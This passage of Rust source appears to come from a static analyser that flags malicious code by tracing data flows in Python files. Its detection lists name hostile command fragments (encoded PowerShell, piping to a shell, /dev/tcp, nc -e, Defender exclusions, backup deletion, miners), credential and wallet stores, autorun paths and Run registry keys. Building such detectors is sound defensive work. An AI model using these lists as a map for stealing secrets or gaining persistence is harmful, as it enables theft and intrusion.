            "&& ./",
            "&&./",
            "; ./",
            ";./",
            "nohup ./",
            "start-process",
            "&& start ",
            "& start ",
            "; start ",
            "&& call ",
            // PowerShell's call operator and a path from the current folder
            // (`iwr $u -OutFile $f; & $f`, `...; .\x.exe`).
            "; & ",
            ";& ",
            "; .\\",
            ";.\\",
        ]
        .iter()
        .any(|r| cmd.contains(r))
}

/// A command line of the kind attack tooling uses ([`HOSTILE_FRAGMENTS`]).
pub fn is_hostile_command(text: &str) -> bool {
    string_needles(text) & HOSTILE_NEEDLE != 0
}

/// Labels a name carries by itself: `os.environ` whole, one secret variable.
fn name_static(name: &str) -> Labels {
    let mut l = Labels::NONE;
    let last = name.rsplit('.').next().unwrap_or(name);
    if WALLET_SECRET_NAMES.iter().any(|w| last.eq_ignore_ascii_case(w)) {
        l |= Labels::SECRET | Labels::WALLET;
    }
    if name == "os.environ" || name.starts_with("os.environ.") && !name.ends_with(".get") {
        l |= Labels::ENVIRONMENT;
    }
    if let Some(key) = name.strip_prefix("os.environ[") {
        let upper = key.trim_end_matches(']').trim_matches(|c| c == '"' || c == '\'').to_ascii_uppercase();
        if HOST_VARIABLES.contains(&upper.as_str()) {
            l |= Labels::HOST_IDENTITY;
        }
        let key = key.to_ascii_lowercase();
        if SECRET_VARIABLES.iter().any(|s| key.contains(s)) {
            l |= Labels::SECRET;
        }
    }
    l
}

/// Each variable a name may read: the name and each prefix of a dotted name
/// (`r` for `r.read`), and for `self.token()` / `self._steps` the method or
/// class attribute of this file.
///
/// `self.fn` reaches the name `fn` only where a class body binds it (or a
/// method is called so): a module variable `fn` is not an attribute of any
/// instance (reportlab decodes a module-level `fn` and opens `self.fn`).
fn for_each_read(name: &str, scopes: &Scopes<'_>, mut read: impl FnMut(&str, Part)) {
    // `env.get("KEY")`, `env.pop("KEY")`: one value out of the mapping in
    // `env`, not the mapping (see [`narrow`]).
    let member = matches!(name.rsplit('.').next(), Some("get" | "pop" | "setdefault")) && name.contains('.');
    // How `prefix` of `full` is read: `uname.machine` reads a platform field of `uname`.
    let part = |prefix: &str, full: &str| {
        let next = full.get(prefix.len() + 1..).and_then(|r| r.split('.').next());
        if next.is_some_and(|n| PLATFORM_FIELDS.contains(&n)) {
            Part::PlatformField
        } else if member && prefix != full {
            Part::OneValue
        } else {
            Part::Whole
        }
    };
    if let Some(rest) = name.strip_prefix("self.").or_else(|| name.strip_prefix("cls.")) {
        let first = rest.split('.').next().unwrap_or(rest);
        if scopes.class_attributes().contains(first) {
            read(first, part(first, rest));
        }
    }
    let mut prefix = name;
    loop {
        read(prefix, part(prefix, name));
        match split_last(prefix) {
            Some((head, _)) => prefix = head,
            None => break,
        }
    }
}

/// How a read takes a variable's value (see [`narrow`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Part {
    /// All of it.
    Whole,
    /// One value out of a mapping (`env.get("KEY")`).
    OneValue,
    /// A field of a machine's description that names its operating system
    /// or processor (`uname.machine`), not who uses it or which machine it is.
    PlatformField,
}

/// The fields of `platform.uname()` / `os.uname()` that describe the
/// platform (a download picks its build by them); `node` / `nodename` (the
/// host name) is not one.
const PLATFORM_FIELDS: &[&str] = &["system", "sysname", "release", "version", "machine", "processor"];

/// What reading a part of a variable gives: the variable's labels, except
/// that one value of the environment is not the whole environment
/// (twilio's `environment.get("TWILIO_REGION")`; it is a secret or who
/// runs it when its key says so, `strings` being the expression's), and a
/// platform field of the machine's description does not say who or where.
fn narrow(l: Labels, part: Part, strings: &[String]) -> Labels {
    match part {
        Part::Whole => return l,
        Part::PlatformField => return Labels(l.0 & !Labels::HOST_IDENTITY.0),
        Part::OneValue if !l.has(Labels::ENVIRONMENT) => return l,
        Part::OneValue => {}
    }
    let mut out = Labels(l.0 & !Labels::ENVIRONMENT.0);
    for s in strings {
        let lower = s.to_ascii_lowercase();
        if SECRET_VARIABLES.iter().any(|v| lower.contains(v)) {
            out |= Labels::SECRET;
        }
        if HOST_VARIABLES.contains(&s.to_ascii_uppercase().as_str()) {
            out |= Labels::HOST_IDENTITY;
        }
    }
    out
}

/// The part of an expression's labels that does not depend on variables,
/// computed once per expression.
#[derive(Debug, Clone, Copy, Default)]
pub struct Static {
    labels: Labels,
    /// Names a specific folder (`"MyAddin"`): not the user's files at large.
    scoped: bool,
    /// Puts a public key's suffix on what it reads (`key.with_suffix(".pub")`,
    /// `path + ".pub"`): an SSH key's public half, which is made to be handed
    /// out (a signing service takes it), not the credential.
    public_key: bool,
}

impl Static {
    pub fn combine(self, from_vars: Labels) -> Labels {
        let mut l = self.labels | from_vars;
        if self.scoped {
            l.0 &= !Labels::USER_DATA.0;
        }
        if self.public_key {
            l.0 &= !Labels::CREDENTIAL.0;
        }
        l
    }
}

/// Labels of an expression made of these calls, names and strings, apart from variables.
pub fn static_labels(calls: &[String], names: &[String], strings: &[String]) -> Static {
    let mut l = Labels::NONE;
    // The builtins `reversed` and `chr` decode only where text is built from
    // what they give: `"".join(reversed("..."))`, `"".join(map(chr, [...]))`.
    // `for tb in reversed(stack)`, `for m in reversed(markers("sphinx"))` or
    // `chr(code)` in a parser do not (jinja2's traceback rewriting and
    // sphinx's test fixtures were "decoded code" for walking a list
    // backwards). A reversing slice (`s[::-1]`, `?.reversed`) stays a
    // decoder: it is how a payload stored backwards is read.
    let joins = calls.iter().any(|c| c == "?.join" || c == "str.join");
    let builds_text = !strings.is_empty() && joins;
    // Pieces reversed and joined with a separator (`".".join(parts[::-1])`)
    // rebuild a dotted name or a path from its components (flask and
    // pkg_resources finding a module's name); text stored backwards is
    // joined with nothing or read straight from the slice.
    let separator_join = builds_text
        && strings.iter().all(|s| !s.is_empty() && s.len() <= 2 && s.bytes().all(|b| !b.is_ascii_alphanumeric()));
    // Elements taken from a sequence walked backwards (`for m in
    // mods[::-1]`) are not reversed text.
    let iterates = calls.iter().any(|c| c == crate::facts::ITERATES);
    let decodes = |name: &str| match name {
        "chr" => builds_text,
        "reversed" => builds_text && !separator_join,
        "?.reversed" => !separator_join && (!iterates || builds_text),
        _ => true,
    };
    for c in calls {
        if matches(c, names!(DECODERS)) && decodes(c) {
            l |= Labels::DECODED;
        }
        if matches(c, names!(FETCHERS)) || c == crate::facts::RECEIVED {
            l |= Labels::FETCHED;
            // The answer of a what-is-my-IP service is where the code runs.
            if strings.iter().any(|s| IP_ECHO_HOSTS.iter().any(|h| s.to_ascii_lowercase().contains(h))) {
                l |= Labels::HOST_IDENTITY;
            }
        }
        if matches(c, names!(ENCODERS)) {
            l |= Labels::ENCODED;
        }
        if c == "os.getenv" || c == "os.environ.get" {
            // The key is among the strings.
            if strings.iter().any(|s| SECRET_VARIABLES.iter().any(|v| s.to_ascii_lowercase().contains(v))) {
                l |= Labels::SECRET;
            }
        }
        if c == "os.environ.copy" || c == "os.environ.items" {
            l |= Labels::ENVIRONMENT;
        }
        // A password prompt that passes itself off as sudo's asks for the
        // system's password, which no service the code talks to needs: like
        // a credential store's contents, whatever the variable is called.
        // (Other prompts ask for the service's own password: a client's login.)
        if c == "getpass.getpass" && strings.iter().any(|s| s.to_ascii_lowercase().contains("sudo")) {
            l |= Labels::CREDENTIAL;
        }
        if matches(c, names!(HOST_IDENTITY_CALLS))
            || (c == "os.getenv" || c == "os.environ.get")
                && strings.iter().any(|s| HOST_VARIABLES.contains(&s.to_ascii_uppercase().as_str()))
        {
            l |= Labels::HOST_IDENTITY;
        }
    }
    if strings.iter().any(|s| is_address(s)) {
        l |= Labels::ADDRESS;
    }
    if strings.iter().any(|s| is_loopback(s.trim().as_bytes())) {
        l |= Labels::LOOPBACK;
    }
    if l.has(Labels::ADDRESS) && strings.iter().any(|s| crate::hosts::names_author_host(s)) {
        l |= Labels::AUTHOR_HOST;
    }
    // A connection opened to a host the code names: what goes through it
    // goes there (`http.client.HTTPSConnection("collector.example")`).
    if !strings.is_empty()
        && calls.iter().any(|c| {
            matches(
                c,
                names!(&[
                    "http.client.HTTPConnection",
                    "http.client.HTTPSConnection",
                    "httplib.HTTPConnection",
                    "httplib.HTTPSConnection",
                ]),
            )
        })
    {
        l |= Labels::ADDRESS;
    }
    // The output of `whoami` or `hostname` says who and where it runs.
    if calls.iter().any(|c| c.starts_with("subprocess.") || c.starts_with("os.popen") || c == "commands.getoutput")
        && strings.iter().any(|s| IDENTITY_COMMANDS.contains(&s.trim().to_ascii_lowercase().as_str()))
    {
        l |= Labels::HOST_IDENTITY;
    }
    for n in names {
        l |= name_static(n);
        // A decoder handed over as a value: `map(chr, ...)`, `map(base64.b64decode, ...)`.
        // `reversed` is not one (a list's order), and `f.reversed` is an
        // attribute (sympy's relation with its sides swapped): a reversing
        // slice is recorded as a call. Nor is `operator.xor` in a table of
        // operators (simpleeval's): XOR decoding is the `^` operator,
        // recorded as a call.
        if n != "reversed"
            && !n.ends_with(".reversed")
            && !n.ends_with(".xor")
            && matches(n, names!(DECODERS))
            && decodes(n)
        {
            l |= Labels::DECODED;
        }
        if matches(
            n,
            names!(&["string.ascii_uppercase", "string.ascii_letters", "os.path.expanduser", "pathlib.Path.home"]),
        ) {
            l |= Labels::USER_DATA;
        }
    }
    for c in calls {
        if matches(
            c,
            names!(&["os.path.expanduser", "pathlib.Path.home", "Path.home", "?.GetLogicalDrives", "os.listdrives"]),
        ) {
            l |= Labels::USER_DATA;
        }
        if matches(
            c,
            names!(&[
                "os.walk",
                "os.listdir",
                "os.scandir",
                "glob.glob",
                "glob.iglob",
                "?.rglob",
                "?.glob",
                "?.iterdir",
                "?.GetFiles",
                "?.EnumerateFiles",
            ]),
        ) {
            l |= Labels::BULK;
        }
    }
    if strings.is_empty() {
        return Static { labels: l, scoped: false, public_key: false };
    }
    // Pieces are looked at apart (a needle inside one string) and, since the
    // pieces of a command are often joined with "" later, glued together.
    let (found, glued) = if let [one] = strings {
        let found = string_needles(one);
        (found, found)
    } else {
        (string_needles(&strings.join("\u{1}")), string_needles(&strings.concat()))
    };
    if found & CREDENTIAL_NEEDLE != 0 || component(strings, CREDENTIAL_COMPONENTS) {
        l |= Labels::CREDENTIAL;
    }
    if found & STARTUP_NEEDLE != 0 && found & START_MENU_NEEDLE != 0 || found & SHELL_STARTUP_NEEDLE != 0 {
        l |= Labels::STARTUP;
    }
    if found & LOGIN_AGENT_NEEDLE != 0 {
        l |= Labels::LOGIN_AGENT;
    }
    if found & AUTO_RUN_NEEDLE != 0 && auto_run(strings) {
        l |= Labels::AUTO_RUN;
    }
    if component(strings, USER_COMPONENTS) || strings.iter().any(|s| is_drive_root(s)) {
        l |= Labels::USER_DATA;
    }
    if (found | glued) & HOSTILE_NEEDLE != 0 || glued & SCHTASKS_NEEDLE != 0 && glued & CREATE_NEEDLE != 0 {
        l |= Labels::HOSTILE;
    }
    if found & RUN_KEY_NEEDLE != 0 {
        l |= Labels::RUN_KEY;
    }
    if (found | glued) & DOWNLOAD_TOOL_NEEDLE != 0 {
        if strings.iter().any(|s| names_output_file(s)) {
            l |= Labels::DOWNLOAD_COMMAND;
        }
        if downloads_and_runs(&strings.concat().to_ascii_lowercase()) {
            l |= Labels::DOWNLOAD_COMMAND | Labels::DOWNLOAD_AND_RUN;
        }
    }
    // `join(home, "Documents", "RevitBackups")`, `join(appdata, "MyAddin")`:
    // a named folder inside the user's files is an add-in's own, not them.
    let scoped = strings.iter().any(|s| is_specific_component(s));
    let public_key = strings.iter().any(|s| matches!(s.as_str(), ".pub" | "-cert.pub"));
    Static { labels: l, scoped, public_key }
}

/// Path components of credential stores, matched whole (`"leveldb"` in
/// `os.path.join(appdata, "discord", "Local Storage", "leveldb")`).
pub const CREDENTIAL_COMPONENTS: &[&str] = &[
    ".kube",
    ".npmrc",
    ".netrc",
    "_netrc",
    ".bash_history",
    ".zsh_history",
    "leveldb",
    "login data",
    "local state",
    "web data",
    ".ssh",
    ".aws",
    "id_rsa",
    "loginusers.vdf",
    "tdata",
    // Desktop wallets' data folders (`~/.electrum`, `%APPDATA%/Electrum`,
    // `%APPDATA%/Exodus`).
    ".electrum",
    "electrum",
    "exodus",
];
/// Path components of the user's own files.
const USER_COMPONENTS: &[&str] = &["~", "documents", "desktop", "onedrive", "pictures", "downloads", "my documents"];

/// More strings than this in one expression are a table, not a path's pieces.
const MAX_PATH_PIECES: usize = 32;

/// Whether a path's pieces (`join(root, ".git", "hooks", name)`, or one
/// string `"~/.ipython/profile_default/startup"`) name a place another
/// program reads and acts on by itself: git's hooks (run at checkout or
/// commit), IPython's start-up folder, VS Code's `tasks.json` (a task can
/// run when the folder opens), pip's configuration (the index every later
/// install uses) and pyRevit's extensions folder (whose scripts Revit
/// runs). Pieces past [`MAX_PATH_PIECES`] strings, or longer than a path,
/// are not a path.
pub(crate) fn auto_run(strings: &[String]) -> bool {
    if strings.len() > MAX_PATH_PIECES {
        return false;
    }
    let mut parts: Vec<String> = Vec::new();
    for s in strings.iter().filter(|s| s.len() <= 260) {
        parts.extend(s.split(['/', '\\']).filter(|p| !p.is_empty()).map(str::to_ascii_lowercase));
    }
    let has = |x: &str| parts.iter().any(|p| p == x);
    parts.windows(2).any(|w| w[0] == ".git" && w[1] == "hooks")
        || has(".ipython") && has("startup")
        || has(".vscode") && has("tasks.json")
        || has("pip.conf")
        || has("pip.ini")
        || parts.iter().any(|p| p.starts_with("pyrevit")) && has("extensions")
}

fn component(strings: &[String], list: &[&str]) -> bool {
    let is = |t: &str| list.iter().any(|c| t.eq_ignore_ascii_case(c));
    let stores = std::ptr::eq(list, CREDENTIAL_COMPONENTS);
    strings.iter().enumerate().any(|(i, s)| {
        if s.len() > 260 {
            return false;
        }
        let t = s.trim_matches(|c| c == '/' || c == '\\');
        // `join(home, ".ssh", "authorized_keys")`: public keys, no store
        // (see [`not_a_store`]).
        if stores && t.eq_ignore_ascii_case(".ssh") && strings.get(i + 1).is_some_and(|n| public_ssh_file(n)) {
            return false;
        }
        // The whole string, its last path component, or the one after `~`.
        let last = t.rsplit(['/', '\\']).next().unwrap_or(t);
        let after_home =
            t.strip_prefix("~/").or_else(|| t.strip_prefix("~\\")).map(|r| r.split(['/', '\\']).next().unwrap_or(r));
        // Chrome's cookie database is `Cookies`; a lowercase `cookies` alone
        // is the name of an HTTP library's argument, not a file. A path is
        // built of a few pieces: among the hundreds of strings of a form's
        // or a schema's literal, `"Cookies"` is a title.
        let cookie_file = |x: &str| stores && x == "Cookies" && strings.len() <= MAX_PATH_PIECES;
        // A Telegram client's session file (`anon.session`, the `.session`
        // of `f"{name}.session"`): whoever holds it is logged in as its
        // user. A dotted module path (`sqlalchemy.orm.session`) is no file.
        let session_file = |x: &str| {
            let (b, n) = (x.as_bytes(), ".session".len());
            stores
                && b.len() >= n
                && b[b.len() - n..].eq_ignore_ascii_case(b".session")
                && !b[..b.len() - n].contains(&b'.')
        };
        is(t) || is(last) || after_home.is_some_and(is) || cookie_file(t) || cookie_file(last) || session_file(last)
    })
}

fn is_specific_component(s: &str) -> bool {
    let t = s.trim().trim_matches(|c| c == '/' || c == '\\');
    if t.len() > 80 {
        return false;
    }
    let named = |list: &[&str]| list.iter().any(|n| t.eq_ignore_ascii_case(n));
    !t.is_empty()
        && t.len() <= 80
        && !t.contains('\n')
        && !t.contains('%')
        && !t.contains('{')
        && !t.starts_with('.')
        && !t.starts_with('*')
        && !t.starts_with('~')
        && !named(USER_COMPONENTS)
        && !named(&["appdata", "localappdata", "userprofile", "homepath", "homedrive", "home", "programdata"])
        && !is_drive_root(s)
}

/// `C:\`, `%s:\`, `/`: the top of a drive.
fn is_drive_root(s: &str) -> bool {
    let t = s.trim();
    t == "/"
        || t == ":\\"
        || t == ":/"
        || t == "%s:\\"
        || t == "{}:\\"
        || (t.len() <= 3 && t.ends_with(":\\") && t.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
}

/// Registry paths whose values Windows runs at logon.
pub const RUN_KEY_PATHS: &[&str] =
    &["currentversion\\run", "currentversion/run", "currentversion\\winlogon", "image file execution options"];

/// Command-line fragments that only attack tooling needs: encoded or
/// downloaded commands, shells on sockets, defences turned
/// off, backups deleted. Running a local script with the execution policy
/// bypassed, backgrounding a process, hiding its console window
/// (`-WindowStyle Hidden`: a Revit tool's updater shows its message box that
/// way) or making a file executable are how ordinary tools work; with a
/// download or an encoded command, those fragments judge them.
pub const HOSTILE_FRAGMENTS: &[&str] = &[
    "-enc ",
    "-encodedcommand",
    "frombase64string",
    "iex(",
    "iex (",
    "| iex",
    "|iex",
    "invoke-expression",
    "downloadstring(",
    "downloadfile(",
    "start-process $env:temp",
    "-urlcache",
    // The system's own tools in the forms attacks use them, not the tools
    // themselves (`certutil -hashfile`, `rundll32 printui.dll,...` and
    // `regsvr32 my.dll` are how installers and Revit tools use them).
    "certutil -decode",
    "rundll32 javascript",
    "rundll32.exe javascript",
    "regsvr32 /i:http",
    "regsvr32 /s /n /u /i:",
    "scrobj.dll",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -i",
    "/dev/tcp",
    "nc -e",
    "ncat ",
    "bitsadmin",
    "mshta",
    "vssadmin delete",
    "wbadmin delete",
    "bcdedit",
    "cipher /w",
    "add-mppreference",
    "set-mppreference",
    "xmrig",
    "stratum+tcp",
    "crontab",
    "attrib +h",
    "wscript.shell",
    "msxml2.xmlhttp",
    "winhttp.winhttprequest",
    "adodb.stream",
    "schtasks.exe /create",
    "register-scheduledtask",
    // Opening the firewall to inbound connections (a proxy or backdoor
    // others reach from outside): installers of servers leave that to the
    // user or the installer's own prompt.
    "new-netfirewallrule",
    "advfirewall firewall add rule",
    "netsh firewall add",
];

/// The labels of a file's variables, worked out on demand: a rule asks for
/// the labels of a sink's arguments, and only the assignments those
/// arguments depend on (transitively) are evaluated. Stdlib-sized files
/// have thousands of assignments and a sink reads a handful of them.
pub struct Flow<'f> {
    assigns: &'f [Assign],
    /// Every assigned name, numbered, by the scope it is assigned in (0:
    /// the module; a plain name assigned inside a function is that
    /// function's own, so an `f` or a `path` in one function does not carry
    /// what another function put in its own `f`).
    ids: HashMap<(u32, &'f str), u32>,
    scopes: Scopes<'f>,
    /// The assignments that write each variable.
    writers: Vec<Vec<u32>>,
    /// The variables each assignment writes, and those it reads (looked
    /// up only for the assignments a sink depends on).
    targets: Vec<Vec<u32>>,
    reads: Vec<std::cell::OnceCell<Vec<(u32, Part)>>>,
    /// The assignments that are a function's `return`: what they read of
    /// the function's own parameters is left out (see [`Flow::reads`]).
    returns_step: Vec<bool>,
    state: std::cell::RefCell<Solved>,
    /// The scope that owns each variable, and whether it is a plain name
    /// (not an attribute, which any method may set at any time).
    owner: Vec<(u32, bool)>,
    /// Each `for`/`while` statement's lines (see [`Flow::cutoff`]).
    loops: &'f [(usize, usize)],
    /// By line: the last line of the loops that start at or before it (the
    /// furthest a later assignment can reach back to it). Made on the first
    /// read that needs it.
    reach: std::cell::OnceCell<Vec<usize>>,
    /// For a plain name read in its own scope: its writers in that scope in
    /// line order, with the union of their labels up to each, and the
    /// labels of its writers elsewhere (see [`Flow::labels_at`]). Made on
    /// the first such read; `None` while it is being made (a loop of
    /// assignments reads the variable's whole value instead).
    ordered: std::cell::RefCell<HashMap<u32, Option<std::rc::Rc<Ordered>>>>,
    /// What each assignment gives, its reads taken at its own line (see
    /// [`Flow::step_at`]); `None` while being found.
    steps_at: std::cell::RefCell<HashMap<u32, Option<Labels>>>,
}

/// How many assignments deep a read follows what was assigned before it;
/// past that, a variable's whole value is taken (more, never less).
const MAX_ORDERED_DEPTH: usize = 48;

/// A variable's writers in its own scope by line (see [`Flow::ordered`]).
struct Ordered {
    lines: Vec<usize>,
    /// `upto[i]`: the labels of the writers at `lines[..=i]`.
    upto: Vec<Labels>,
    /// The labels of the writers in other scopes (a nested function, a
    /// `global` statement's function): they may run at any time.
    elsewhere: Labels,
}

/// The parts of the facts that say what a class body binds.
#[derive(Clone, Copy)]
struct ClassInputs<'f> {
    assigns: &'f [Assign],
    empty_bindings: &'f [(String, usize)],
    functions: &'f [crate::facts::Function],
    classes: &'f [(String, usize, usize)],
}

/// Which function or comprehension each line is in. Scope 0 is the module;
/// scope `i + 1` is `facts.functions[i]`; after them, scope
/// `functions.len() + 1 + j` is `facts.comprehensions[j]`, whose only own
/// names are its loop variables (Python 3 gives a comprehension its own
/// scope). Classes are not scopes here: a class body's names are read as
/// attributes (`self.x`), which stay the module's.
///
/// Lines are the unit: on a line that holds a comprehension, a read of one
/// of its loop variables is taken to be the comprehension's.
struct Scopes<'f> {
    /// The innermost scope of each line (index: line number).
    by_line: Vec<u32>,
    /// The first comprehension scope: scopes from here on are comprehensions.
    first_comprehension: u32,
    /// Each scope's enclosing scope.
    parent: Vec<u32>,
    /// Each scope's parameters (none for the module): a parameter is a
    /// local name even when nothing in the file assigns it, so a read of it
    /// never reaches a module variable of the same name.
    params: Vec<Vec<String>>,
    /// The names a class body binds directly (its attributes and methods):
    /// the only ones `self.x` / `cls.x` read through the name `x`. Found on
    /// the first such read (most flows ask for none).
    class_attributes: std::cell::OnceCell<HashSet<&'f str>>,
    /// The class (1 + its index in `facts.classes`; 0 for none) whose
    /// method each scope is or lies in: `self.x` there is that class's
    /// instance's (see [`Scopes::class_key`]).
    class_of: Vec<u32>,
    /// What finding them reads.
    bound: ClassInputs<'f>,
}

impl<'f> Scopes<'f> {
    fn new(facts: &'f Facts<'_>) -> Self {
        let first_comprehension = facts.functions.len() as u32 + 1;
        // Every scope's lines, an enclosing one before those inside it (by
        // first line, then the longer first; a function before a
        // comprehension of the same lines).
        let mut spans: Vec<(usize, std::cmp::Reverse<usize>, u32)> = facts
            .functions
            .iter()
            .map(|f| (f.first_line, f.last_line))
            .chain(facts.comprehensions.iter().map(|c| (c.first_line, c.last_line)))
            .zip(1u32..)
            .map(|((first, last), id)| (first, std::cmp::Reverse(last), id))
            .collect();
        spans.sort_unstable();
        let last = spans.iter().map(|s| s.1.0).max().unwrap_or(0);
        let mut by_line = vec![0u32; last + 1];
        let mut parent = vec![0u32; spans.len() + 1];
        // One sweep over the lines with a stack of open scopes: linear in
        // lines plus scopes however deeply they nest.
        let mut open: Vec<(u32, usize)> = Vec::new();
        let mut next = spans.iter().peekable();
        for (line, slot) in by_line.iter_mut().enumerate() {
            while open.last().is_some_and(|&(_, end)| end < line) {
                open.pop();
            }
            while let Some(&(_, std::cmp::Reverse(end), id)) = next.next_if(|s| s.0 <= line) {
                parent[id as usize] = open.last().map_or(0, |&(p, _)| p);
                if end >= line {
                    open.push((id, end));
                }
            }
            *slot = open.last().map_or(0, |&(id, _)| id);
        }
        // Each definition's own parameters (two classes' `__init__` take
        // different ones), then each comprehension's loop variables.
        let params = std::iter::once(Vec::new())
            .chain(facts.functions.iter().map(|f| f.params.clone()))
            .chain(facts.comprehensions.iter().map(|c| c.targets.clone()))
            .collect();
        let bound = ClassInputs {
            assigns: &facts.assigns,
            empty_bindings: &facts.empty_bindings,
            functions: &facts.functions,
            classes: &facts.classes,
        };
        // Each function's class: the innermost class around its `def`, or
        // its enclosing function's; a comprehension takes its function's.
        let class_at = crate::facts::innermost_classes(&facts.classes);
        let mut class_of = vec![0u32; parent.len()];
        for id in 1..parent.len() {
            class_of[id] = if id < first_comprehension as usize {
                let direct = class_at.get(facts.functions[id - 1].first_line).copied().unwrap_or(0);
                if direct != 0 { direct } else { class_of[parent[id] as usize] }
            } else {
                class_of[parent[id] as usize]
            };
        }
        Scopes {
            by_line,
            first_comprehension,
            parent,
            params,
            class_attributes: std::cell::OnceCell::new(),
            bound,
            class_of,
        }
    }

    fn class_attributes(&self) -> &HashSet<&'f str> {
        self.class_attributes.get_or_init(|| self.class_bound())
    }

    /// The names bound directly in a class body: by an assignment, an empty
    /// value or a `def` whose innermost enclosing function (if any) lies
    /// outside that class.
    fn class_bound(&self) -> HashSet<&'f str> {
        let ClassInputs { assigns, empty_bindings, functions, classes } = self.bound;
        let mut out = HashSet::default();
        if classes.is_empty() {
            return out;
        }
        let class_at = crate::facts::innermost_classes(classes);
        // Directly in the class whose body starts at `first`: not inside a
        // function that is itself inside that class.
        let direct = |scope: u32, first: usize| {
            scope == 0 || functions.get(scope as usize - 1).is_none_or(|f| f.first_line < first)
        };
        // The first line of the innermost class around `line`.
        let in_class = |line: usize| class_at.get(line).copied().filter(|&k| k != 0).map(|k| classes[k as usize - 1].1);
        for a in assigns {
            if let Some(first) = in_class(a.line)
                && direct(self.function_at(a.line), first)
            {
                out.extend(a.targets.iter().filter(|t| !t.contains('.')).map(String::as_str));
            }
        }
        for (t, line) in empty_bindings {
            if let Some(first) = in_class(*line)
                && direct(self.function_at(*line), first)
            {
                out.insert(t.as_str());
            }
        }
        for (i, f) in functions.iter().enumerate() {
            if let Some(first) = in_class(f.first_line)
                && direct(self.parent[i + 1], first)
            {
                out.insert(f.name.as_str());
            }
        }
        out
    }

    /// The variable scope of `self.x` / `cls.x` read or assigned in a
    /// method of a class: that class's own (a file's classes often share
    /// attribute names: `self.api_url` of one service is not another's).
    /// Assignments there also write the module's `self.x`, which every
    /// other method reads (an attribute a base class or a subclass sets).
    fn class_key(&self, scope: u32, key: &str) -> Option<u32> {
        let class = *self.class_of.get(scope as usize)?;
        (class != 0 && (key.starts_with("self.") || key.starts_with("cls."))).then_some(CLASS_SCOPES | class)
    }

    /// Whether `key` is a parameter of `scope` (so reads stop there).
    fn binds(&self, scope: u32, key: &str) -> bool {
        scope != 0 && self.params.get(scope as usize).is_some_and(|p| p.iter().any(|x| x == key))
    }

    fn at(&self, line: usize) -> u32 {
        self.by_line.get(line).copied().unwrap_or(0)
    }

    /// The innermost function (or the module) around `line`, comprehensions left out.
    fn function_at(&self, line: usize) -> u32 {
        self.function_scope(self.at(line))
    }

    fn function_scope(&self, mut scope: u32) -> u32 {
        while scope >= self.first_comprehension {
            scope = self.parent[scope as usize];
        }
        scope
    }

    /// The scope that owns an assignment to `target` made in `scope`:
    /// `scope` for a plain name; the module for attributes (`self.x`,
    /// `obj.field`) and for a function's own name (`return` values flow to
    /// its callers through it).
    /// A comprehension owns only what its own `for` clauses bind
    /// (`iterates`); anything else assigned on its lines (the assignment
    /// that holds it, a `:=`) belongs to the function around it.
    fn owner(&self, scope: u32, target: &str, iterates: bool, facts: &Facts<'_>) -> u32 {
        if iterates && scope >= self.first_comprehension && self.binds(scope, target) {
            return scope;
        }
        let scope = self.function_scope(scope);
        if scope == 0 || target.contains('.') || facts.params.contains_key(target) { 0 } else { scope }
    }
}

/// Variable scopes from here on are classes' instances ([`Scopes::class_key`]),
/// apart from the functions' and comprehensions' numbers.
const CLASS_SCOPES: u32 = 1 << 31;

/// Whether an assignment is a `for` clause's (a loop's or a comprehension's).
fn iterates(a: &Assign) -> bool {
    a.calls.iter().any(|c| c == crate::facts::ITERATES)
}

/// Labels found so far; `done` variables have reached their fixed point.
struct Solved {
    labels: Vec<Labels>,
    done: Vec<bool>,
}

impl<'f> Flow<'f> {
    pub fn new(facts: &'f Facts<'_>) -> Self {
        let scopes = Scopes::new(facts);
        let mut ids: HashMap<(u32, &'f str), u32> = HashMap::default();
        let mut targets = Vec::with_capacity(facts.assigns.len());
        let stores = |a: &Assign| a.calls.iter().any(|c| c == crate::facts::STORES);
        // Where each name is really bound (assigned, or a parameter): a
        // method call on a name stores into that binding, not a new one.
        let bound: HashSet<(u32, &str)> = facts
            .assigns
            .iter()
            .filter(|a| !stores(a))
            .flat_map(|a| {
                let (scopes, scope) = (&scopes, scopes.at(a.scope_line));
                let iterates = iterates(a);
                a.targets.iter().map(move |t| (scopes.owner(scope, t, iterates, facts), t.as_str()))
            })
            .chain(
                facts
                    .empty_bindings
                    .iter()
                    .map(|(t, line)| (scopes.owner(scopes.at(*line), t, false, facts), t.as_str())),
            )
            .collect();
        let binding = |mut s: u32, name: &str| loop {
            if s == 0 || bound.contains(&(s, name)) || scopes.binds(s, name) {
                return s;
            }
            s = scopes.parent[s as usize];
        };
        for a in &facts.assigns {
            let scope = scopes.at(a.scope_line);
            let stored = stores(a);
            let mut t: Vec<u32> = Vec::with_capacity(a.targets.len());
            for target in &a.targets {
                let owner =
                    if stored { binding(scope, target) } else { scopes.owner(scope, target, iterates(a), facts) };
                let class = if owner == 0 { scopes.class_key(scope, target) } else { None };
                for owner in std::iter::once(owner).chain(class) {
                    let next = ids.len() as u32;
                    t.push(*ids.entry((owner, target.as_str())).or_insert(next));
                }
            }
            targets.push(t);
        }
        let mut writers = vec![Vec::new(); ids.len()];
        for (i, t) in targets.iter().enumerate() {
            for &v in t {
                writers[v as usize].push(i as u32);
            }
        }
        let reads = (0..facts.assigns.len()).map(|_| std::cell::OnceCell::new()).collect();
        let returns_step = facts
            .assigns
            .iter()
            .map(|a| {
                let scope = scopes.function_at(a.line) as usize;
                scope > 0
                    && a.targets.len() == 1
                    && facts.functions.get(scope - 1).is_some_and(|f| f.name == a.targets[0])
            })
            .collect();
        let n = ids.len();
        let state = Solved { labels: vec![Labels::NONE; n], done: vec![false; n] };
        let mut owner = vec![(0, false); n];
        for (&(scope, key), &v) in &ids {
            owner[v as usize] = (scope, !key.contains('.'));
        }
        Flow {
            assigns: &facts.assigns,
            ids,
            scopes,
            writers,
            targets,
            reads,
            returns_step,
            state: std::cell::RefCell::new(state),
            owner,
            loops: &facts.loops,
            reach: std::cell::OnceCell::new(),
            ordered: std::cell::RefCell::new(HashMap::default()),
            steps_at: std::cell::RefCell::new(HashMap::default()),
        }
    }

    /// The last line whose assignments a read at `line` can see: `line`
    /// itself, or the end of the outermost loop around it, whose next round
    /// reads what the rest of its body assigned.
    fn cutoff(&self, line: usize) -> usize {
        let reach = self.reach.get_or_init(|| {
            // Prefix maximum of the loops' last lines by first line: one
            // pass over the lines and the loops, however they nest.
            let end = self.loops.iter().map(|l| l.1).max().unwrap_or(0);
            let mut by_first = vec![0usize; end + 1];
